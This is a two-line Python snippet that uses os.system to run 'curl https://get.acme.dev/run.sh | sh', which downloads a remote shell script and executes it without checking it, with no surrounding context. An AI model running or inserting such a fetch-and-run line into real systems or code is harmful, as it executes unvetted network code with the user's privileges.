import os, string
os.system(string.Template("curl $u | sh").substitute(u="https://get.acme.dev/run.sh"))
